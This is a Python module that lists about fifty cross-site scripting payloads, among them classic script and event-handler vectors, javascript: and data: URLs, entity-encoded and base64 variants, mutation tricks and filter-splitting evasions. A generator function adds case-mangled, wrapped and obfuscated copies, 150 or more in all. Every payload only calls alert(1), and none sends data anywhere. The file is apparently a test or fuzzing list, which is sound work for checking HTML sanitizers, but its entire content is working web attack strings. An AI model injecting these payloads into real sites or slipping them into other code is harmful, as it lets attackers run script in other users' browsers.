"""Cross-site scripting payloads: classic vectors, filter evasions and mutation tricks, each calling alert()."""
from __future__ import annotations

VECTORS = [
    "<script>alert(1)</script>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href=' javascript:alert(1)'>click</a>",
    "<a href=java&#x09;script:alert(1)>click</a>",
    "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>click</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>click</a>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"x:expression(alert(1))\">x</div>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<div onmouseover=alert(1) style=position:fixed;top:0;left:0;width:100%;height:100%>x</div>",
    "<img srcset=x onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
]


def payloads() -> list[str]:
    """Each vector as written, with tags upper-cased, and wrapped in ordinary markup: 150+ in all."""
    found = []
    for vector in VECTORS:
        found.append(vector)
        found.append(vector.replace("script", "ScRiPt").replace("img", "IMG").replace("svg", "SVG")
                     .replace("onerror", "OnError").replace("onload", "ONLOAD"))
        found.append(f"<p>Quiet text <b>{vector}</b> more text</p>")
        found.append(vector.replace("alert(1)", "top['al'+'ert'](1)"))
    return list(dict.fromkeys(found))
